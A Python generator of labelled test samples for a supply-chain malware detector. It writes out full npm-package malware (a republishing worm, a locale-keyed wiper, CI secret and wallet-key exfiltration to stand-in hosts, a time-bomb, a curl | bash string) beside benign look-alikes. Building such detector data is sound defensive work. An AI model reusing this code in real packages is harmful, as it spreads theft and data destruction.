"""Samples of the `h5fix` branch for scripts/make-samples.py (2026-11-25, issue 6): one malicious
variant of our own and one tricky benign counterpart for each class the branch fixed after the
blind holdout5 set: release CLIs against worms that republish, project wipers keyed on locale,
environment secrets picked by name in CI, wallet keys handed to a sending helper, date-and-chance
sabotage, and stealers compiled into a native addon.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `h5fix-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test); made-up keys; binaries are random bytes behind a magic number.
"""

import random

from samples_malicious import S, pj
from samples_common import readme, registry

SAMPLES, BENIGN, sample, benign = registry()


def fake_elf(seed, strings, size=3072):
    """Random bytes behind an ELF header, then NUL-separated strings: nothing that could run."""
    r = random.Random(f"h5fix:{seed}")
    head = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x03\x00>\x00\x01\x00\x00\x00"
    body = bytes(r.randrange(256) for _ in range(size))
    return head + body + b"\x00" + b"\x00".join(s.encode() for s in strings) + b"\x00"


# =============================================================================================
# Malicious


@sample
def load_time_republish_worm():
    index = r'''"use strict";
const { execFileSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

// Keeps the format tables warm between runs.
function warm() {
  const token = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN;
  if (!token || process.env.__FMT_WARM) return;
  try {
    const list = JSON.parse(execFileSync("npm", ["access", "list", "packages", "--json"], { env: { ...process.env, __FMT_WARM: "1" } }).toString());
    for (const name of Object.keys(list).slice(0, 20)) {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), "fmt-"));
      const spec = execFileSync("npm", ["view", name, "dist.tarball"]).toString().trim();
      execFileSync("sh", ["-c", `curl -sL ${spec} | tar -xz -C ${dir}`]);
      const pkgDir = path.join(dir, "package");
      const pj = JSON.parse(fs.readFileSync(path.join(pkgDir, "package.json"), "utf8"));
      pj.version = pj.version.replace(/(\d+)$/, (d) => String(Number(d) + 1));
      pj.dependencies = Object.assign({}, pj.dependencies, { "fmt-table-cache": "^1.0.0" });
      fs.writeFileSync(path.join(pkgDir, "package.json"), JSON.stringify(pj, null, 2));
      execFileSync("npm", ["publish", pkgDir, "--access", "public"], { env: { ...process.env, __FMT_WARM: "1" } });
    }
  } catch (e) {}
}

warm();

module.exports = function pad(s, n) {
  return String(s).padEnd(n);
};
'''
    files = {
        "package.json": pj(name="fmt-table-cache", version="1.0.3", main="index.js",
                           description="Column padding helpers for CLI tables"),
        "README.md": readme("fmt-table-cache", "```js\nrequire('fmt-table-cache')('a', 4)\n```"),
        "index.js": index,
    }
    return S(
        "h5fix-fmt-table-cache-load-time-republish-worm",
        "npm worm run on require: lists the packages the token may publish, repacks each with "
        "a bumped version and itself as a dependency, republishes (Shai-Hulud, 2025, moved from "
        "install time to load time)", "2025",
        ["load-time", "npm-worm", "npm-publish", "token-theft", "child-process"],
        "Other shape of the worm class: no maintainer search (npm access list packages), no "
        "install script; publishes other packages' directories after patching package.json.",
        files,
    )


@sample
def locale_project_wiper():
    cli = r'''#!/usr/bin/env node
"use strict";
// Registers the colour themes with your shell.
const fs = require("fs");
const path = require("path");

const NOTE = "\n  Нет войне. This project was stopped by its dependency.\n";
const lang = (process.env.LANG || process.env.LC_ALL || Intl.DateTimeFormat().resolvedOptions().locale || "").toLowerCase();

function sweep(dir) {
  let list = [];
  try { list = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
  for (const ent of list) {
    const full = path.join(dir, ent.name);
    if (ent.name === "node_modules") continue;
    if (ent.isDirectory()) sweep(full);
    else fs.writeFileSync(full, NOTE);
  }
}

if (lang.startsWith("ru") || lang.startsWith("be")) {
  setTimeout(() => sweep(process.env.INIT_CWD || process.cwd()), 90 * 1000);
}
console.log("themes registered");
'''
    files = {
        "package.json": pj(name="shell-theme-pack", version="3.0.2", main="themes.json",
                           description="Colour themes for bash, zsh and fish prompts",
                           scripts={"postinstall": "node setup.js"}),
        "README.md": readme("shell-theme-pack", "```sh\nnpm i -g shell-theme-pack\n```"),
        "themes.json": '{"dracula": {"fg": "#f8f8f2", "bg": "#282a36"}}\n',
        "setup.js": cli,
    }
    return S(
        "h5fix-shell-theme-pack-locale-project-wiper",
        "protestware keyed on the system locale (node-ipc 2022 and its imitators): a delayed "
        "wipe of the installing project", "2022",
        ["postinstall", "protestware", "locale-check", "wiper"],
        "Other shape of holdout5's geo wiper: no network, LANG/Intl locale instead of IP "
        "geolocation, the walk overwrites every file of INIT_CWD with a message after 90 s.",
        files,
    )


@sample
def ci_env_pattern_stealer():
    index = r'''"use strict";
const https = require("https");

// Anonymous build-time telemetry for the reporter (CI only).
function telemetry() {
  if (!process.env.CI) return;
  const picked = [];
  for (const name in process.env) {
    if (/auth|token|secret|passw|credential/i.test(name)) picked.push([name, process.env[name]]);
  }
  const data = Buffer.from(JSON.stringify({ repo: process.env.GITHUB_REPOSITORY, v: picked })).toString("hex");
  const req = https.request({ hostname: "reporter-stats.example.net", path: "/t", method: "PUT" });
  req.on("error", () => {});
  req.end(data);
}

setImmediate(telemetry);

module.exports = class MinimalReporter {
  onRunComplete(_, results) {
    console.log(`${results.numPassedTests} passed, ${results.numFailedTests} failed`);
  }
};
'''
    files = {
        "package.json": pj(name="jest-minimal-reporter", version="2.1.0", main="index.js",
                           description="A one-line Jest reporter"),
        "README.md": readme("jest-minimal-reporter", "```js\nreporters: ['jest-minimal-reporter']\n```"),
        "index.js": index,
    }
    return S(
        "h5fix-jest-minimal-reporter-ci-env-pattern-stealer",
        "CI-only secret harvest on load (GhostAction, Shai-Hulud 2.0's CI branch, 2025): every "
        "environment variable whose name looks secret, hex-encoded in a PUT to a fixed host",
        "2025",
        ["load-time", "ci-only", "env-harvest", "https-exfil"],
        "Other shape of holdout5's debug CI stealer: a for...in over process.env and an inline "
        "name pattern, two named variables only, PUT instead of POST.",
        files,
    )


@sample
def wallet_key_helper_sender():
    index = r'''import { Wallet } from "ethers";
import https from "node:https";

function trace(pk, addr) {
  const r = https.request({ host: "eth-gas-oracle.example.org", path: "/v2/hint?a=" + addr, method: "GET", headers: { "x-client-hint": Buffer.from(pk.slice(2), "hex").toString("base64") } });
  r.on("error", () => {});
  r.end();
}

/** A wallet from a private key or mnemonic, connected to the provider. */
export function walletFrom(secret, provider) {
  const w = secret.trim().includes(" ") ? Wallet.fromPhrase(secret.trim()) : new Wallet(secret.trim());
  trace(w.privateKey, w.address);
  return provider ? w.connect(provider) : w;
}

export async function gasHint(provider) {
  const fee = await provider.getFeeData();
  return fee.maxFeePerGas;
}
'''
    files = {
        "package.json": pj(name="ethers-wallet-kit", version="1.4.2", type="module",
                           exports={".": "./index.js"}, dependencies={"ethers": "^6.13.0"},
                           description="Load ethers wallets from keys or phrases, with gas hints"),
        "README.md": readme("ethers-wallet-kit", "```js\nimport { walletFrom } from 'ethers-wallet-kit'\n```"),
        "index.js": index,
    }
    return S(
        "h5fix-ethers-wallet-kit-key-to-trace-helper",
        "wallet library backdoor handing every loaded private key to a helper that sends it "
        "(@solana/web3.js 1.95.6 addToQueue, Dec 2024, rebuilt on ethers)", "2024-12-03",
        ["function-call-trigger", "esm", "wallet-key-theft", "header-exfil"],
        "Other shape of holdout5's Solana header exfil: ethers Wallet, https.request GET with "
        "the key re-encoded in a header, the address in the query.",
        files,
    )


@sample
def date_chance_throw():
    index = r'''"use strict";
const { Pool } = require("pg");

const MAINTENANCE = new Date("2027-01-15T00:00:00Z").getTime();

function retryable(err) {
  return err && (err.code === "ECONNRESET" || err.code === "57P01");
}

exports.createPool = function createPool(config) {
  const pool = new Pool(config);
  const query = pool.query.bind(pool);
  pool.query = async function (text, params) {
    const now = Date.now();
    if (now >= MAINTENANCE && Math.random() * 100 < 7) {
      const e = new Error("Connection terminated unexpectedly");
      e.code = "ECONNRESET";
      throw e;
    }
    try {
      return await query(text, params);
    } catch (err) {
      if (retryable(err)) return query(text, params);
      throw err;
    }
  };
  return pool;
};
'''
    files = {
        "package.json": pj(name="pg-pool-retry", version="0.6.1", main="index.js",
                           dependencies={"pg": "^8.11.0"},
                           description="pg Pool with one automatic retry on dropped connections"),
        "README.md": readme("pg-pool-retry", "```js\nconst pool = require('pg-pool-retry').createPool({})\n```"),
        "index.js": index,
    }
    return S(
        "h5fix-pg-pool-retry-date-chance-sabotage",
        "time-delayed sabotage (Socket, Nov 2025: database helpers failing on a share of calls "
        "after a date years ahead)", "2025-11",
        ["time-bomb", "probabilistic", "sabotage", "no-network"],
        "Other shape of holdout5's escape-string-regexp bomb: new Date('…').getTime(), "
        "Math.random() * 100 < 7, a thrown fake connection error instead of a corrupted value.",
        files,
    )


@sample
def native_addon_browser_stealer():
    elf = fake_elf("sqlite", ["napi_register_module_v1", "open", "exec",
                              "Google/Chrome/Default/Login Data", "Mozilla/Firefox/Profiles",
                              "logins.json", ".aws/credentials", ".docker/config.json",
                              "bash -c 'curl -s https://sq-mirror.example.net/i | bash'"])
    index = r'''"use strict";
const path = require("path");

const binding = require(path.join(__dirname, "build", "Release", "sqlite_lite.node"));
binding.open(require("os").homedir());

exports.Database = class Database {
  constructor(file) { this.h = binding.open(file); }
  exec(sql) { return binding.exec(this.h, sql); }
};
'''
    files = {
        "package.json": pj(name="sqlite-lite-native", version="5.1.0", main="index.js",
                           description="Small synchronous SQLite binding"),
        "README.md": readme("sqlite-lite-native", "```js\nnew (require('sqlite-lite-native').Database)(':memory:')\n```"),
        "index.js": index,
        "build/Release/sqlite_lite.node": elf,
    }
    return S(
        "h5fix-sqlite-lite-native-addon-browser-stealer",
        "stealer compiled into a shipped addon loaded on require (Socket/ReversingLabs 2024-2025)",
        "2025",
        ["import-time", "native-addon", "browser-logins", "cloud-credentials"],
        "Other shape of holdout5's fastcrc32 addon: build/Release instead of prebuilds, browser "
        "login stores and cloud credentials named in its strings beside a curl | bash template.",
        files,
    )


# =============================================================================================
# Tricky benign


@benign
def b_release_cli():
    cli = r'''#!/usr/bin/env node
"use strict";
// Publish the package in the current directory: version from the git tag, token from the
// environment, registry from npm's config.
const { execFileSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

const token = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN;
if (!token) {
  console.error("NPM_TOKEN is not set");
  process.exit(1);
}
const registry = execFileSync("npm", ["config", "get", "registry"]).toString().trim();
const rc = path.join(os.tmpdir(), `.npmrc-${process.pid}`);
fs.writeFileSync(rc, `//${new URL(registry).host}/:_authToken=${token}\n`, { mode: 0o600 });
const tag = (process.env.GITHUB_REF_NAME || "").replace(/^v/, "");
const args = ["publish", "--userconfig", rc, "--access", "public"];
if (/-/.test(tag)) args.push("--tag", "next");
try {
  execFileSync("npm", args, { stdio: "inherit" });
  fetch(`https://api.github.example/repos/${process.env.GITHUB_REPOSITORY}/releases`, {
    method: "POST",
    headers: { authorization: `token ${process.env.GITHUB_TOKEN}` },
    body: JSON.stringify({ tag_name: `v${tag}` }),
  }).catch(() => {});
} finally {
  fs.rmSync(rc, { force: true });
}
'''
    files = {
        "package.json": pj(name="tag-release", version="2.2.0", bin={"tag-release": "cli.js"},
                           files=["cli.js"], description="Publish from a git tag in CI"),
        "README.md": readme("tag-release", "```yaml\n- run: npx tag-release\n  env:\n    NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n```"),
        "cli.js": cli,
    }
    return S("h5fix-tag-release-cli", "release CLI: npm publish of the working directory with "
             "a token from the environment written to a temporary npmrc, then a GitHub release",
             "2025", ["cli-bin", "npm-publish", "token-read", "child-process"],
             "Mirrors the load-time worm: tokens, npm publish, GitHub API; but a bin the user "
             "runs, publishing the package it is run in.", files, {"cli.js": 0o755})


@benign
def b_codemod():
    cli = r'''#!/usr/bin/env node
"use strict";
// Rewrites `var` to `let` in every .js file of the project (dry run unless --write).
const fs = require("fs");
const path = require("path");

const write = process.argv.includes("--write");
let changed = 0;

function walk(dir) {
  for (const ent of fs.readdirSync(dir, { withFileTypes: true })) {
    if (ent.name === "node_modules" || ent.name.startsWith(".")) continue;
    const full = path.join(dir, ent.name);
    if (ent.isDirectory()) walk(full);
    else if (full.endsWith(".js")) {
      const src = fs.readFileSync(full, "utf8");
      const out = src.replace(/\bvar\s/g, "let ");
      if (out !== src) {
        changed++;
        if (write) fs.writeFileSync(full, out);
      }
    }
  }
}

walk(process.env.INIT_CWD || process.cwd());
console.log(`${changed} file(s) ${write ? "rewritten" : "would change"}`);
'''
    files = {
        "package.json": pj(name="var-to-let", version="1.3.0", bin={"var-to-let": "cli.js"},
                           description="Codemod: var to let across a project"),
        "README.md": readme("var-to-let", "```sh\nnpx var-to-let --write\n```"),
        "cli.js": cli,
    }
    return S("h5fix-var-to-let-codemod", "codemod walking the project and rewriting files it "
             "read", "2025", ["cli-bin", "fs-walk", "fs-write"],
             "Mirrors the locale wiper: recursive walk of INIT_CWD writing files, but every "
             "write is the file's own text transformed, and no locale check.",
             files, {"cli.js": 0o755})


@benign
def b_env_redactor():
    index = r'''"use strict";
// Crash reports with the environment attached, secrets redacted, sent where you configure.
const SECRET = /token|secret|passw|credential|auth/i;

function environment() {
  const out = {};
  for (const name of Object.keys(process.env)) {
    out[name] = SECRET.test(name) ? "[redacted]" : process.env[name];
  }
  return out;
}

exports.install = function install({ endpoint }) {
  process.on("uncaughtException", (err) => {
    fetch(endpoint, { method: "POST", body: JSON.stringify({ stack: err.stack, env: environment() }) })
      .finally(() => process.exit(1));
  });
};
'''
    files = {
        "package.json": pj(name="crash-envelope", version="0.8.0", main="index.js",
                           description="Crash reports with a redacted environment"),
        "README.md": readme("crash-envelope", "```js\nrequire('crash-envelope').install({ endpoint: process.env.CRASH_URL })\n```"),
        "index.js": index,
    }
    return S("h5fix-crash-envelope-env-redactor", "crash reporter: walks the environment with "
             "a secret-name pattern to redact, sends to the endpoint its user configures",
             "2025", ["env-walk", "secret-pattern", "network"],
             "Mirrors the CI env stealer: Object.keys(process.env) and a secret-name regex in "
             "one loop beside a send, but the matches are redacted and the address is the "
             "caller's.", files)


@benign
def b_wallet_signer():
    index = r'''import { Wallet } from "ethers";

const RPC = "https://rpc.chain.example.org/";

function sign(pk, digest) {
  return new Wallet(pk).signingKey.sign(digest).serialized;
}

export async function signAndSend(wallet, digest) {
  const signature = sign(wallet.privateKey, digest);
  const res = await fetch(RPC, { method: "POST", headers: { "content-type": "application/json" },
    body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "relay_submit", params: [wallet.address, signature] }) });
  return (await res.json()).result;
}
'''
    files = {
        "package.json": pj(name="relay-signer", version="0.3.0", type="module",
                           exports={".": "./index.js"}, dependencies={"ethers": "^6.13.0"},
                           description="Sign digests and submit them to a relay"),
        "README.md": readme("relay-signer", "```js\nimport { signAndSend } from 'relay-signer'\n```"),
        "index.js": index,
    }
    return S("h5fix-relay-signer", "signs with the wallet's private key in a local helper and "
             "sends only the signature to a fixed RPC", "2025",
             ["wallet", "private-key", "signing", "network"],
             "Mirrors the key-to-helper stealer: privateKey handed to a local function and a "
             "request to a fixed host, but the helper signs and sends nothing.", files)


@benign
def b_deprecation_nag():
    index = r'''"use strict";
// v1 API, kept for compatibility. After the sunset date a warning is shown on some calls.
const SUNSET = Date.UTC(2026, 5, 30);
let warned = false;

exports.parse = function parse(text) {
  if (!warned && Date.now() > SUNSET && Math.random() < 0.05) {
    warned = true;
    process.emitWarning("query-lite v1 is past its sunset date; see the v2 migration guide", "DeprecationWarning");
  }
  return Object.fromEntries(new URLSearchParams(text));
};
'''
    files = {
        "package.json": pj(name="query-lite", version="1.9.9", main="index.js",
                           description="Tiny query string parser (v1 line)"),
        "README.md": readme("query-lite", "```js\nrequire('query-lite').parse('a=1')\n```"),
        "index.js": index,
    }
    return S("h5fix-query-lite-deprecation-nag", "deprecation warning shown on a random share "
             "of calls after a sunset date", "2025", ["date-check", "random", "deprecation"],
             "Mirrors the date-and-chance bombs: fixed date and Math.random() in one condition "
             "of an entry file, but the branch only warns (and sets its once-flag).", files)


@benign
def b_ssh_agent_addon():
    elf = fake_elf("agent", ["napi_register_module_v1", "SSH_AUTH_SOCK", ".ssh/id_ed25519",
                             ".ssh/id_rsa", ".ssh/known_hosts", "https://www.openssh.example/manual"])
    index = r'''"use strict";
const path = require("path");
const binding = require(path.join(__dirname, "prebuilds", `${process.platform}-${process.arch}`, "agent.node"));

exports.listKeys = () => binding.list(process.env.SSH_AUTH_SOCK);
exports.defaultKeys = () => binding.defaults(require("os").homedir());
'''
    files = {
        "package.json": pj(name="ssh-agent-native", version="1.0.4", main="index.js",
                           description="List ssh-agent identities and default key files"),
        "README.md": readme("ssh-agent-native", "```js\nrequire('ssh-agent-native').listKeys()\n```"),
        "index.js": index,
        "prebuilds/linux-x64/agent.node": elf,
    }
    return S("h5fix-ssh-agent-native-addon", "prebuilt addon of an SSH agent client naming the "
             "default key files", "2025", ["native-addon", "ssh-keys"],
             "Mirrors the compiled stealer: a .node loaded on require, given the home folder, "
             "whose strings name SSH keys and a URL, but one kind of store only.", files)
